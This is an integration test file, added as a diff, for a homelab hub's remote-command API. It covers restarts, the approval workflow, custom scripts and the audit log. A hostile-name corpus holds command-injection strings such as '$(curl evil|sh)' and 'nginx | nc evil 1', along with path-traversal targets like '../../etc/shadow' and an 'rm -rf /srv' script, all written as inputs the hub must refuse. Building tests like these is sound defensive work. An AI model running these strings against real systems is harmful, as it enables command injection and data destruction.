@@ -1,0 +1,285 @@
+"""Commands on machines, end to end against the real hub: restart buttons,
+the remediation workflow (approve / reject / auto-approve), custom scripts,
+the audit log, and a hostile corpus of names refused before anything runs.
+
+The SSH tests use tests/integration/sshd.py: real OpenSSH sshd machines on
+127.0.0.N whose systemctl/docker are stand-ins keeping state in files and
+logging every call, so "nothing ran" is read from the target's own log."""
+import json
+import os
+import socket
+import sys
+import tempfile
+import threading
+import time
+import unittest
+import urllib.parse
+
+sys.path.insert(0, os.path.dirname(__file__))
+from hlc import Hub, assert_error, free_port  # noqa: E402
+
+
+def hostile_names():
+    """At least 100 names no whitelist pattern may accept. None holds '/',
+    which would change the route itself (tested apart)."""
+    frags = [";", "|", "&", "&&", "||", "$(id)", "`id`", "'", '"', " ", "\t", "\n", "\r",
+             ">", "<", "*", "?", "[a]", "{a,b}", "~", "!", "#", "\\", "$HOME", "${IFS}",
+             "%", "^", "=", ",", "(", ")", "\x01", "\x7f", "é", "\u202e", "；", "\u200b",
+             "..", "+", "\x1b[31m"]
+    names = []
+    for f in frags:
+        names += [f, f + "nginx", "ngi" + f + "nx", "nginx" + f]
+    names += ["-nginx", "--help", "-", "--version", ".", "..", "...", "nginx..service",
+              "nginx; reboot", "nginx && reboot", "nginx | nc evil 1", "nginx\nreboot",
+              "$(curl evil|sh)", "`reboot`", "nginx' ; reboot ; '", 'nginx"; reboot; "',
+              "a" * 10240, "nginx" + "x" * 200, "ünïcödé", "日本語", "😀", ".hidden"]
+    return names
+
+
+HOSTILE = hostile_names()
+
+
+def q(name):
+    return urllib.parse.quote(name, safe="")
+
+
+class ExecutorNoSshTest(unittest.TestCase):
+    """Everything that needs no reachable machine."""
+
+    @classmethod
+    def setUpClass(cls):
+        cls.hub = Hub().start()
+        cls.dead_port = free_port()  # nothing listens: connection refused
+
+    @classmethod
+    def tearDownClass(cls):
+        code = cls.hub.stop()
+        log = cls.hub.log()
+        cls.hub.cleanup()
+        assert code == 0, f"hub exit {code}\n{log[-3000:]}"
+        assert "AddressSanitizer" not in log and "runtime error:" not in log, log[-5000:]
+
+    def setUp(self):
+        for m in self.hub.get("/api/v1/servers").json["servers"]:
+            self.hub.delete(f"/api/v1/servers/{m['server_id']}")
+        self.hub.put("/api/v1/config", {"remediation": {
+            "auto_approve_enabled": False,
+            "auto_approve_actions": ["restart_service", "clear_logs"],
+            "require_approval_actions": ["apply_updates", "custom"]}})
+        r = self.hub.post("/api/v1/servers", {
+            "server_id": "dead", "hostname": "127.0.0.1", "ssh_port": self.dead_port,
+            "ssh_user": "homelabcmd"})
+        self.assertEqual(r.status, 201, r)
+        # the audit log outlives deleted machines: look only at rows made now
+        top = self.hub.get("/api/v1/audit?limit=1").json["entries"]
+        self.audit_base = top[0]["id"] if top else 0
+
+    def audit(self, qs=""):
+        entries = self.hub.get(f"/api/v1/audit?limit=1000&{qs}").json["entries"]
+        return [e for e in entries if e["id"] > self.audit_base]
+
+    def test_unknown_machine_is_404_and_nothing_recorded(self):
+        r = self.hub.post("/api/v1/servers/ghost/services/nginx/restart")
+        assert_error(self, r, 404, "NOT_FOUND")
+        r = self.hub.post("/api/v1/servers/ghost/containers/web/stop")
+        assert_error(self, r, 404, "NOT_FOUND")
+        r = self.hub.post("/api/v1/actions", {"server_id": "ghost", "action_type": "restart_service",
+                                              "target": "nginx"})
+        assert_error(self, r, 404)
+        self.assertEqual(self.hub.get("/api/v1/actions?server_id=ghost").json["total"], 0)
+
+    def test_unreachable_machine_is_409_with_reason_and_recorded(self):
+        r = self.hub.post("/api/v1/servers/dead/services/nginx/restart")
+        d = assert_error(self, r, 409, "MACHINE_UNREACHABLE")
+        self.assertIn("unreachable", d["message"])
+        a = self.hub.get(f"/api/v1/actions/{d['action_id']}").json
+        self.assertEqual(a["status"], "failed")
+        self.assertEqual(a["action_type"], "restart_service")
+        self.assertEqual(a["command"], "sudo -n systemctl restart 'nginx'")
+        self.assertIn("unreachable", a["failure_reason"])
+        self.assertIsNone(a["exit_code"])
+        self.assertTrue(a["requested_by"].startswith("api_key@127.0.0.1"))
+        self.assertFalse(a["result"]["success"])
+        audit = self.audit("server_id=dead")
+        self.assertEqual(len(audit), 1)
+        self.assertEqual(audit[0]["command"], "sudo -n systemctl restart 'nginx'")
+        self.assertEqual(audit[0]["trigger"], "api_key")
+        self.assertEqual(audit[0]["status"], "failed")
+        self.assertEqual(audit[0]["action_id"], d["action_id"])
+
+    def test_root_user_gets_no_sudo(self):
+        self.hub.put("/api/v1/servers/dead", {"ssh_user": "root"})
+        r = self.hub.post("/api/v1/servers/dead/containers/web_1/restart")
+        d = assert_error(self, r, 409)
+        a = self.hub.get(f"/api/v1/actions/{d['action_id']}").json
+        self.assertEqual(a["command"], "docker restart 'web_1'")
+
+    def test_hostile_names_are_400_and_never_recorded(self):
+        self.assertGreaterEqual(len(HOSTILE), 100)
+        paths = ["/api/v1/servers/dead/services/{}/restart", "/api/v1/servers/dead/services/{}/start",
+                 "/api/v1/servers/dead/services/{}/stop", "/api/v1/servers/dead/containers/{}/start",
+                 "/api/v1/servers/dead/containers/{}/stop",
+                 "/api/v1/servers/dead/containers/{}/restart"]
+        for name in HOSTILE:
+            for p in paths:
+                r = self.hub.post(p.format(q(name)))
+                assert_error(self, r, 400, "INVALID_NAME")
+            for t in ("restart_service", "container_stop", "clear_logs", "custom"):
+                r = self.hub.post("/api/v1/actions", {"server_id": "dead", "action_type": t,
+                                                      "target": name})
+                assert_error(self, r, 400, "INVALID_NAME")
+            r = self.hub.post("/api/v1/servers/dead/scripts", {"name": name, "script": "true"})
+            assert_error(self, r, 400, "INVALID_NAME")
+            r = self.hub.delete(f"/api/v1/servers/dead/scripts/{q(name)}")
+            assert_error(self, r, 400, "INVALID_NAME")
+        for path in ["../../etc/shadow", "/var/log/../../etc/shadow", "/etc/passwd", "/var/log/",
+                     "/var/log/a/../b", "/var/log/.x", "/var/log//x", "var/log/syslog"]:
+            r = self.hub.post("/api/v1/actions", {"server_id": "dead", "action_type": "clear_logs",
+                                                  "target": path})
+            assert_error(self, r, 400, "INVALID_NAME")
+        # '/' (even encoded) and NUL change the route itself: no handler runs
+        for raw in ("nginx%2F..%2F..%2Fetc", "nginx%00%3Breboot", "%2F", "..%2F"):
+            r = self.hub.post(f"/api/v1/servers/dead/services/{raw}/restart")
+            self.assertIn(r.status, (400, 404), r)
+        self.assertEqual(self.hub.get("/api/v1/actions").json["total"], 0)
+        self.assertEqual(self.audit(), [])
+
+    def test_workflow_states_and_illegal_moves(self):
+        r = self.hub.post("/api/v1/actions", {"server_id": "dead", "action_type": "restart_service",
+                                              "target": "plex"})
+        self.assertEqual(r.status, 201, r)
+        a = r.json
+        self.assertEqual(a["status"], "pending")
+        self.assertFalse(a["auto_approved"])
+        self.assertIsNone(a["approved_at"])
+        self.assertEqual(a["command"], "sudo -n systemctl restart 'plex'")
+        pending = self.hub.get("/api/v1/actions?status=pending").json
+        self.assertEqual([x["action_id"] for x in pending["actions"]], [a["action_id"]])
+        r = self.hub.post(f"/api/v1/actions/{a['action_id']}/reject")
+        self.assertEqual(r.status, 200, r)
+        self.assertEqual(r.json["status"], "rejected")
+        self.assertIsNotNone(r.json["completed_at"])
+        assert_error(self, self.hub.post(f"/api/v1/actions/{a['action_id']}/approve"), 409,
+                     "ILLEGAL_STATE")
+        assert_error(self, self.hub.post(f"/api/v1/actions/{a['action_id']}/reject"), 409)
+        assert_error(self, self.hub.post("/api/v1/actions/00000000-0000-4000-8000-000000000000/approve"),
+                     404)
+        assert_error(self, self.hub.post("/api/v1/actions/not-an-id/reject"), 404)
+        hist = self.hub.get("/api/v1/actions/history").json["actions"]
+        self.assertEqual([x["status"] for x in hist], ["rejected"])
+        # a rejected action ran nothing
+        self.assertEqual(self.audit(), [])
+        # approving a pending one on an unreachable machine: it runs, fails, is audited
+        a2 = self.hub.post("/api/v1/actions", {"server_id": "dead", "action_type": "clear_logs",
+                                               "target": "journal",
+                                               "parameters": {"days": 3}}).json
+        self.assertEqual(a2["command"], "sudo -n journalctl --vacuum-time=3d")
+        self.assertEqual(a2["parameters"], {"days": 3})
+        r = self.hub.post(f"/api/v1/actions/{a2['action_id']}/approve")
+        self.assertEqual(r.status, 200, r)
+        self.assertEqual(r.json["status"], "failed")
+        self.assertIsNotNone(r.json["approved_at"])
+        self.assertIsNotNone(r.json["executed_at"])
+        assert_error(self, self.hub.post(f"/api/v1/actions/{a2['action_id']}/approve"), 409)
+        audit = self.audit("action_type=clear_logs")
+        self.assertEqual(len(audit), 1)
+        self.assertEqual(audit[0]["trigger"], "api_key")
+
+    def test_body_validation(self):
+        for body, field in [({"server_id": "dead", "action_type": "reboot", "target": "x"}, "action_type"),
+                            ({"server_id": "dead", "action_type": "restart_service"}, "target"),
+                            ({"server_id": "dead", "action_type": "restart_service", "target": 5}, "target"),
+                            ({"server_id": "dead", "action_type": "restart_service", "target": "x",
+                              "extra": 1}, None),
+                            ({"server_id": "dead", "action_type": "restart_service", "target": "x",
+                              "parameters": {"days": 3}}, "parameters.days"),
+                            ({"server_id": "dead", "action_type": "clear_logs", "target": "journal",
+                              "parameters": {"days": 0}}, "parameters.days")]:
+            r = self.hub.post("/api/v1/actions", body)
+            assert_error(self, r, 422, "VALIDATION_ERROR", field)
+        for qs, field in [("status=done", "status"), ("limit=0", "limit"), ("limit=x", "limit")]:
+            assert_error(self, self.hub.get(f"/api/v1/actions?{qs}"), 422, field=field)
+        for qs, field in [("since=yesterday", "since"), ("action_type=rm", "action_type"),
+                          ("limit=1001", "limit"), ("server_id=A%20B", "server_id")]:
+            assert_error(self, self.hub.get(f"/api/v1/audit?{qs}"), 422, field=field)
+        # the audit log has no write verbs
+        self.assertEqual(self.hub.delete("/api/v1/audit").status, 405)
+        self.assertEqual(self.hub.put("/api/v1/audit", {}).status, 405)
+
+    def test_auto_approve_per_type(self):
+        self.hub.put("/api/v1/config", {"remediation": {"auto_approve_enabled": True}})
+        r = self.hub.post("/api/v1/actions", {"server_id": "dead", "action_type": "restart_service",
+                                              "target": "plex"})
+        self.assertEqual(r.status, 201, r)
+        self.assertTrue(r.json["auto_approved"])
+        self.assertEqual(r.json["status"], "failed")  # it ran at once; the machine is down
+        audit = self.audit()
+        self.assertEqual(audit[0]["trigger"], "auto_approve")
+        self.assertEqual(audit[0]["action_id"], r.json["action_id"])
+        # not listed: stays pending
+        r = self.hub.post("/api/v1/actions", {"server_id": "dead", "action_type": "container_stop",
+                                              "target": "web"})
+        self.assertEqual(r.json["status"], "pending")
+        # apply_updates and custom need approval unless explicitly enabled
+        self.hub.post("/api/v1/servers/dead/scripts", {"name": "hello", "script": "echo hi"})
+        self.hub.put("/api/v1/config", {"remediation": {
+            "auto_approve_actions": ["restart_service", "clear_logs", "apply_updates", "custom"]}})
+        for t, tgt in (("apply_updates", "system"), ("custom", "hello")):
+            r = self.hub.post("/api/v1/actions", {"server_id": "dead", "action_type": t, "target": tgt})
+            self.assertEqual(r.json["status"], "pending", r)
+        self.hub.put("/api/v1/config", {"remediation": {"require_approval_actions": []}})
+        r = self.hub.post("/api/v1/actions", {"server_id": "dead", "action_type": "custom",
+                                              "target": "hello"})
+        self.assertTrue(r.json["auto_approved"], r)
+        self.assertEqual(r.json["command"], "echo hi")
+
+    def test_custom_scripts(self):
+        r = self.hub.post("/api/v1/servers/dead/scripts", {
+            "name": "prune-images", "script": "docker image prune -f\necho done",
+            "description": "free disk"})
+        self.assertEqual(r.status, 201, r)
+        assert_error(self, self.hub.post("/api/v1/servers/dead/scripts",
+                                         {"name": "prune-images", "script": "x"}), 409)
+        assert_error(self, self.hub.post("/api/v1/servers/ghost/scripts",
+                                         {"name": "a", "script": "x"}), 404)
+        assert_error(self, self.hub.post("/api/v1/servers/dead/scripts",
+                                         {"name": "a", "script": "x\ry"}), 422, field="script")
+        assert_error(self, self.hub.post("/api/v1/servers/dead/scripts",
+                                         {"name": "a", "script": "x" * 9000}), 422, field="script")
+        lst = self.hub.get("/api/v1/servers/dead/scripts").json
+        self.assertEqual([s["name"] for s in lst["scripts"]], ["prune-images"])
+        self.assertEqual(lst["scripts"][0]["script"], "docker image prune -f\necho done")
+        a = self.hub.post("/api/v1/actions", {"server_id": "dead", "action_type": "custom",
+                                              "target": "prune-images"}).json
+        self.assertEqual(a["command"], "docker image prune -f\necho done")
+        self.assertEqual(a["status"], "pending")
+        # redefined after queueing: the reviewed command is not what would run
+        self.assertEqual(self.hub.delete("/api/v1/servers/dead/scripts/prune-images").status, 204)
+        self.hub.post("/api/v1/servers/dead/scripts", {"name": "prune-images", "script": "rm -rf /srv"})
+        r = self.hub.post(f"/api/v1/actions/{a['action_id']}/approve")
+        self.assertEqual(r.status, 200, r)
+        self.assertEqual(r.json["status"], "failed")
+        self.assertIn("changed since", r.json["failure_reason"])
+        assert_error(self, self.hub.post("/api/v1/actions", {"server_id": "dead", "action_type": "custom",
+                                                             "target": "nope"}), 404, field="target")
+        assert_error(self, self.hub.delete("/api/v1/servers/dead/scripts/nope"), 404)
+
+    def test_concurrent_approvals_run_once(self):
+        a = self.hub.post("/api/v1/actions", {"server_id": "dead", "action_type": "restart_service",
+                                              "target": "plex"}).json
+        results = []
+
+        def approve():
+            results.append(self.hub.post(f"/api/v1/actions/{a['action_id']}/approve").status)
+
+        ths = [threading.Thread(target=approve) for _ in range(6)]
+        for t in ths:
+            t.start()
+        for t in ths:
+            t.join()
+        self.assertEqual(sorted(results), [200] + [409] * 5)
+        self.assertEqual(len(self.audit("server_id=dead")), 1)
+
+
+if __name__ == "__main__":
+    unittest.main(verbosity=2)
